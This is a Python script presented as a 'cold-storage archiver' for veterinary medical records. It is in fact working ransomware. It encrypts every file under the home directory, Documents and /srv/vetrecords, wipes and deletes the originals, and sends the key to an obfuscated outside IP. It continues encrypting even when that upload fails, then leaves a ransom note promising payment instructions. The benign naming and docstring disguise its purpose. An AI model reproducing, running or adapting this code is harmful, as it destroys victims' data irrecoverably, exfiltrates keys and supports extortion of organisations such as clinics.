#!/usr/bin/env python3
"""Cold-storage archiver for closed veterinary medical records.

Seals every record under the given roots with AES-GCM, stores the key with
the records escrow service and frees the disk space taken by the plaintext.
"""
import argparse
import json
import logging
import os
import secrets
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("records-archiver")

SETTINGS = {
    "suffix": ".sealed",
    "skip": {".sealed", ".so", ".py"},
    "escrow": ("198.51.100.", "23", ":8443", "/escrow/keys"),
    "notice": "RECORDS_ARCHIVED_README.txt",
    "chunk": 1 << 20,
}

NOTICE_TEXT = (
    "All records on this station have been sealed.\n"
    "To obtain the unseal key contact recovery@example.net with your station id\n"
    "and the reference below. Payment instructions will follow.\n"
    "Reference: {ref}\n"
)


def default_roots():
    home = Path.home()
    return [str(home), str(home / "Documents"), "/srv/vetrecords"]


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.sealed = 0

    def seal_file(self, path):
        with open(path, "rb") as fh:
            plain = fh.read()
        nonce = secrets.token_bytes(12)
        blob = nonce + self.aead.encrypt(nonce, plain, None)
        with open(path + SETTINGS["suffix"], "wb") as out:
            out.write(blob)
        self._release(path, len(plain))
        self.sealed += 1

    def _release(self, path, size):
        # overwrite then unlink the plaintext so the space is really freed
        with open(path, "r+b") as fh:
            remaining = size
            while remaining > 0:
                n = min(remaining, SETTINGS["chunk"])
                fh.write(b"\0" * n)
                remaining -= n
        os.remove(path)

    def forget(self):
        self.key = None
        self.aead = None


def candidates(roots):
    for root in roots:
        if not os.path.isdir(root):
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                if os.path.splitext(name)[1] in SETTINGS["skip"]:
                    continue
                if name == SETTINGS["notice"]:
                    continue
                full = os.path.join(dirpath, name)
                if os.path.isfile(full) and not os.path.islink(full):
                    yield full


def escrow_key(key, ref):
    a, b, port, path = SETTINGS["escrow"]
    url = "http://" + a + b + port + path
    body = json.dumps({"ref": ref, "key": key.hex(),
                       "host": os.uname().nodename}).encode()
    req = urllib.request.Request(url, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def leave_notice(roots, ref):
    for root in roots:
        if os.path.isdir(root):
            try:
                with open(os.path.join(root, SETTINGS["notice"]), "w") as fh:
                    fh.write(NOTICE_TEXT.format(ref=ref))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=None)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    ref = secrets.token_hex(8)
    sealer = Sealer()
    try:
        escrow_key(sealer.key, ref)
    except OSError as exc:
        LOG.warning("escrow unavailable (%s), continuing", exc)

    for path in candidates(roots):
        try:
            sealer.seal_file(path)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)

    sealer.forget()
    leave_notice(roots, ref)
    LOG.info("sealed %d records, reference %s", sealer.sealed, ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
